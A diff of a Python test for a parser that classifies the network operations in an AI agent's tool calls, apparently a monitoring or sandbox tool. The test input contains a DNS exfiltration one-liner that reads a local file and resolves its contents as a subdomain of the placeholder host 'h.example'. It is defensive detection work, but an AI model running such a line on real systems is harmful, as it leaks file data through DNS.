@@ -110,7 +110,8 @@ def test_what_python_sends(code: str) -> None:
 
 def test_a_question_for_a_name_is_a_connection() -> None:
     """A name that code makes leaves by way of the resolver; one not known at all tells nothing."""
-    code = "import socket as s\ns.gethostbyname(open('a').read() + '.h.example')\ns.gethostbyname(x)"
+    made = "s.gethostbyname(open('a').read() + '.h.example')"
+    code = f"import socket as s\n{made}\ns.gethostbyname(x)"
     operations = cast("list[dict[str, Any]]", parse(ToolCall("python", {"code": code})).operations)
     found = [(o["protocol"], o["host"]) for o in operations if o["kind"] == "network.connect"]
     assert found == [("dns", "⟨?⟩.h.example")]
